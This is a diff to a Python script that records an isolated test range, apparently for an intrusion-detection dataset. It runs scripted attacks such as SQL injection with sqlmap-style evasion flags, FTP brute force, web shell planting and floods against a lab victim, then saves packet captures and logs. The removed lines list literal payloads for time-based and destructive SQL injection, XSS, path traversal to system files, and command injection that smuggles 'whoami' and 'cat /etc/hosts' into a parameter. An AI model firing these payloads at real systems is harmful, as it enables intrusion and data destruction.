@@ -11,6 +11,7 @@ from __future__ import annotations
 import argparse
 import gzip
 import json
+import math
 import random
 import shutil
 import signal
@@ -28,7 +29,8 @@ from tests.range.attacks import Deed
 from tests.range.benign import HABITS
 from tests.range.client import Client
 from tests.range.facts import gather
-from tests.range.rig import CLIENTS, NETWORK, PLATFORM, VICTIM, Range
+from tests.range.payloads import HELD_OUT
+from tests.range.rig import ACCOMPLICE, ATTACKER, CLIENTS, NETWORK, PLATFORM, VICTIM, Range
 from tests.range.timetable import BENIGN, Phase, Timetable
 
 SEED = 20261122
@@ -39,7 +41,14 @@ LOGS = {
     "vsftpd.log": "var/log/vsftpd.log",
 }
 UPLOADS = "srv/shop/uploads"
-MAX_CAPTURE = 40 << 20
+SQLITE = ("--technique=BEU", "--dbms=sqlite", "--delay=0.1")
+DEEP = ("--level=3", "--risk=2", "--technique=BEUSQ", "--delay=0.05")
+DISGUISED = ("--random-agent", "--tamper=space2comment", "--delay=0.05")
+OLD_AGENT = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
+TRIPS = (0.008, 0.015, 0.022, 0.031, 0.046, 0.062, 0.090, 0.004)
+"""Round trips to the benign clients, in seconds: from the next room to another continent."""
+
+MOST_PACKETS = 500_000
 
 Step = tuple[float, str, Callable[[], Deed]]
 """Seconds of quiet before it, the place it comes from, what is done."""
@@ -62,14 +71,9 @@ def full_plan(rig: Range, client: Client, _: Client) -> list[Step]:
         (6, a.address, use_find),
         (15, a.address, lambda: attacks.ftp_brute_force(a)),
         (15, a.address, lambda: attacks.inject_by_hand(client)),
-        (8, a.address, lambda: attacks.sql_injection(a, "/product?id=1", "--delay=0.1")),
-        (
-            5,
-            a.address,
-            lambda: attacks.sql_injection(
-                a, "/lookup?host=shop.range", "--level=2", "--delay=0.05"
-            ),
-        ),
+        (8, a.address, lambda: attacks.sql_injection(a, "/product?id=1", *SQLITE)),
+        (5, a.address, lambda: attacks.sql_injection(a, "/search?q=lamp", *SQLITE, "--level=2")),
+        (5, a.address, lambda: attacks.sql_injection(a, "/lookup?host=x", *DEEP, seconds=45)),
         (20, a.address, lambda: attacks.plant_web_shell(client)),
         (30, a.address, lambda: attacks.syn_flood(a)),
         (15, a.address, lambda: attacks.http_flood(client)),
@@ -91,38 +95,14 @@ def holdout_plan(rig: Range, client: Client, second: Client) -> list[Step]:
         "hunter2",
         "sunshine",
     ]
-    paths = (
-        "/search?q=x') AND SLEEP(5)--",
-        "/product?id=3 AND (SELECT COUNT(*) FROM sqlite_master)>0",
-        "/product?id=2;DROP TABLE products",
-        "/search?q=<iframe src=javascript:alert(2)>",
-        "/search?q=%253Cscript%253Ealert(3)%253C/script%253E",
-        "/page?name=%2e%2e/%2e%2e/%2e%2e/etc/group",
-        "/page?name=../../../../../windows/win.ini",
-        "/lookup?host=shop.range%26%26whoami",
-        "/lookup?host=x%0acat%20/etc/hosts",
-        "/search?q=<%= system('id') %>",
-        "/wp-login.php?action=register",
-        "/phpmyadmin/index.php?lang=en%27",
-    )
     return [
         (40, b.address, lambda: attacks.slow_http(b, "-B", 50, 20, 15)),
         (10, a.address, lambda: attacks.connect_scan(a)),
         (10, b.address, lambda: attacks.http_flood(second, 6, 150, 15, "/", "Wget/1.21.3")),
         (10, a.address, lambda: attacks.syn_scan(a, "20-600", "-T3")),
-        (10, a.address, lambda: attacks.inject_by_hand(client, paths, "Mozilla/4.0", 1.1)),
-        (
-            10,
-            a.address,
-            lambda: attacks.sql_injection(a, "/search?q=lamp", "--random-agent", "--delay=0.1"),
-        ),
-        (
-            5,
-            a.address,
-            lambda: attacks.sql_injection(
-                a, "/page?name=terms.html", "--random-agent", "--tamper=space2comment", "--level=2"
-            ),
-        ),
+        (10, a.address, lambda: attacks.inject_by_hand(client, HELD_OUT, OLD_AGENT, 0.7)),
+        (10, a.address, lambda: attacks.sql_injection(a, "/search?q=mug", *SQLITE, *DISGUISED)),
+        (5, a.address, lambda: attacks.sql_injection(a, "/page?name=x", *DISGUISED, seconds=15)),
         (
             10,
             b.address,
@@ -169,13 +149,14 @@ def play(rig: Range, steps: Sequence[Step], table: Timetable) -> None:
     """Carry out the steps one after the other and note when each began and ended."""
     for quiet, source, act in steps:
         time.sleep(quiet)
-        start = time.time()
+        # Whole seconds, as logs know no finer: a line of the first second belongs to the phase.
+        start = math.floor(time.time())
         deed = act()
-        end = time.time() + 0.5
+        end = math.ceil(time.time() + 0.5)
         table.add(
             Phase(
                 deed.kind,
-                start - 0.05,
+                start,
                 end,
                 source,
                 VICTIM,
@@ -222,11 +203,10 @@ def population(rig: Range, table: Timetable, pace: float) -> Iterator[None]:
 @contextmanager
 def capture(rig: Range, path: Path) -> Iterator[None]:
     """Record every packet of the victim's interface, whole."""
-    megabytes = str(MAX_CAPTURE >> 20)
     command = ["tcpdump", "-i", "eth0", "-n", "-s", "0", "-B", "8192", "-U", "-Z", "root"]
     enter = ["ip", "netns", "exec", f"tocsin-{rig.id}-victim"]
     process = subprocess.Popen(
-        [*enter, *command, "-C", megabytes, "-W", "1", "-w", str(path)],
+        [*enter, *command, "-c", str(MOST_PACKETS), "-w", str(path)],
         stderr=subprocess.PIPE,
         text=True,
     )
@@ -245,9 +225,11 @@ def record(out: Path, kind: str, pace: float) -> None:
     """Play one plan on a fresh range and write the recording to `out`."""
     out.mkdir(parents=True, exist_ok=True)
     plan = {"full": full_plan, "short": short_plan, "holdout": holdout_plan}[kind]
-    addresses = (f"{NETWORK}.44", f"{NETWORK}.91") if kind == "holdout" else ()
+    addresses = (f"{NETWORK}.44", f"{NETWORK}.91") if kind == "holdout" else (ATTACKER, ACCOMPLICE)
+    far = (0.018, 0.055) if kind == "holdout" else (0.034, 0.034)
+    delays = dict(zip((*CLIENTS, *addresses), (*TRIPS, *far), strict=True))
     say("building the range")
-    with Range(*addresses) as rig:
+    with Range(*addresses, delays=delays) as rig:
         table = Timetable(
             recorded=datetime.now(UTC).isoformat(timespec="seconds"),
             plan=kind,
@@ -279,18 +261,20 @@ def record(out: Path, kind: str, pace: float) -> None:
 
 def pack(rig: Range, raw: Path, out: Path) -> None:
     """Compress the capture and the logs; copy what was uploaded."""
-    (out / "capture.pcap.gz").unlink(missing_ok=True)
-    subprocess.run(
-        ["zstd", "-q", "-19", "-f", str(raw), "-o", str(out / "capture.pcap.zst")], check=True
-    )
+    squeeze(out / "capture.pcap.gz", raw.read_bytes())
     for name, inside in LOGS.items():
         text = (rig.rootfs / inside).read_bytes()
-        (out / f"{name}.gz").write_bytes(gzip.compress(text, 9, mtime=0))
+        squeeze(out / f"{name}.gz", text)
     shutil.rmtree(out / "uploads", ignore_errors=True)
     (out / "uploads").mkdir()
     for path in sorted((rig.rootfs / UPLOADS).iterdir()):
         if path.is_file() and not path.is_symlink():
             (out / "uploads" / path.name).write_bytes(path.read_bytes())
+
+
+def squeeze(path: Path, content: bytes) -> None:
+    """Write `content` gzipped, without the time of day, so that the same bytes give the same."""
+    path.write_bytes(gzip.compress(content, 9, mtime=0))
 
 
 def main(arguments: Sequence[str] | None = None) -> int:
@@ -301,7 +285,7 @@ def main(arguments: Sequence[str] | None = None) -> int:
     kind.add_argument("--holdout", dest="kind", action="store_const", const="holdout")
     parser.add_argument("--pace", type=float, help="seconds between two acts of a benign client")
     chosen = parser.parse_args(arguments)
-    if reasons := Range.missing(*attacks.TOOLS, "zstd"):
+    if reasons := Range.missing(*attacks.TOOLS):
         print("The range cannot run here: " + "; ".join(reasons), file=sys.stderr)
         return 2
     signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
